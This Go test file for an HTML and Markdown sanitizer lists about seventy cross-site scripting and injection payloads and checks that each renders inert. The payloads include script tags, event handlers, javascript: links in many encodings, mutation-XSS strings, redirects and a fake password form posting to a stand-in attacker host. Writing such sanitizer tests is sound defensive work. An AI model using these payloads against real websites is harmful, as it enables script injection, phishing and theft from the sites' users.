package pagehtml

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// payloads try to run script, to load something, to imitate a control, or to
// break out of the piece.
var payloads = []string{
	`<script>alert(1)</script>`,
	"text <script src=//evil.example></script> text",
	`<img src=x onerror=alert(1)>`,
	`a <img src=x onerror=alert(1)> b`,
	`<svg/onload=alert(1)>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>`,
	`text <input type=password name=password> <button>Sign in</button>`,
	`<style>body{display:none}</style>`,
	`<link rel=stylesheet href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<object data="x"></object><embed src="x">`,
	`<video src=x autoplay></video><audio src=x></audio>`,
	`<div id=login class=error style="position:fixed;inset:0">x</div>`,
	`<p onclick=alert(1)>x</p>`,
	`</div></main></body></html><h1>Sign in</h1>`,
	`a </p></div></main> b`,
	`<!-- --><script>alert(1)</script><!-- -->`,
	`<!--><script>alert(1)</script>-->`,
	`x <!--><img src=x onerror=alert(1)>--> y`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?>`,
	`<!DOCTYPE html>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<a href="javascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](<java` + "\t" + `script:alert(1)>)`,
	`[x](&#106;avascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](javascript%3Aalert(1))`,
	"[x](\x01javascript:alert(1))",
	`[x](\javascript:alert(1))`,
	`[x](vbscript:msgbox)`,
	`[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](file:///etc/passwd) [y](blob:https://evil.example/1) [z](view-source:x)`,
	`[x](https://evil.example/"onmouseover="alert(1))`,
	`[x](/a "title" onmouseover=alert(1))`,
	`[x](/a "\"><script>alert(1)</script>")`,
	"[x]: javascript:alert(1)\n\n[x]",
	"[x]: <javascript:alert(1)> '\"><b>'\n\n![x] [y][x]",
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`<https://evil.example/"onmouseover=alert(1)>`,
	`https://evil.example/"><script>alert(1)</script>`,
	`![x](https://evil.example/track.png)`,
	`![x](javascript:alert(1))`,
	`![" onerror="alert(1)](/x)`,
	`[![x](javascript:alert(1))](javascript:alert(2))`,
	"```\"><script>alert(1)</script>\ncode\n```",
	"```html onload=alert(1) class=x\n</code></pre><script>alert(1)</script>\n```",
	"`</code><script>alert(1)</script>`",
	"    </pre><script>alert(1)</script>",
	"# <script>alert(1)</script>",
	"# x {#login .error onclick=alert(1)}",
	`# "><script>alert(1)</script>`,
	"# main\n# login\n# f0-0",
	"|<script>alert(1)</script>|\n|-|\n|</td></table><img src=x onerror=alert(1)>|",
	"- [ ] <input type=password>\n- [x] <button>Sign in</button>",
	"1. a\n\n999999999. b\n",
	"a\x00b <scr\x00ipt>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
	`\<script>alert(1)\</script>`,
	"{{.}} {{template \"login\"}} ${alert(1)}",
	"\u202egnirts a desrever\u202c \u2066",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>alert(1);//<</script>",
	"[<script>alert(1)</script>](/x) **<img src=x onerror=alert(1)>**",
}

// What is checked of each is that it has no element or attribute that is not
// allowed, and that the forms stay.
func TestPayloadsAreInert(t *testing.T) {
	for _, payload := range payloads {
		for _, around := range []string{"%", "> %", "- %", "# %", "text % text", "|%|\n|-|\n|%|", "[%](/x)", "**%**"} {
			src := ""
			for _, r := range around {
				if r == '%' {
					src += payload
					continue
				}
				src += string(r)
			}
			pieces := render("", textOf(t, src), []string{"a"})
			if checkPieces(t, pieces, []string{"a"}); t.Failed() {
				t.Fatalf("%q became\n%s", src, dump(pieces))
			}
			for format, form := range otherForms {
				renderPage(t, format, []byte(form+src))
			}
		}
	}
}

// The policy has to hold even where the renderer would let something pass.
func TestPolicyAlone(t *testing.T) {
	attributes := ` id=login class=error style="color:red" onclick=alert(1) title=x target=_blank href="javascript:alert(1)" rel=opener dir=rtl start=x name=y>`
	var raw strings.Builder
	for _, payload := range payloads {
		raw.WriteString(payload + "\n")
	}
	for _, name := range []string{"a", "h1", "h2", "p", "li", "ol", "td", "pre", "code", "div", "span", "section", "label", "select", "dialog"} {
		raw.WriteString("<" + name + attributes + "x</" + name + ">\n")
	}
	clean := sanitize([]byte(raw.String()))
	c := &checker{T: t, ids: map[string]bool{}}
	for z := html.NewTokenizer(strings.NewReader(string(clean))); ; {
		switch kind, token := z.Next(), z.Token(); kind {
		case html.ErrorToken:
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			if token.Data != "a" { // without an address it has no effect
				c.element(token)
			} else if strings.Contains(token.String(), "javascript") || strings.Contains(token.String(), "target") {
				t.Errorf("link %s", token)
			}
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%s", token)
		}
	}
}
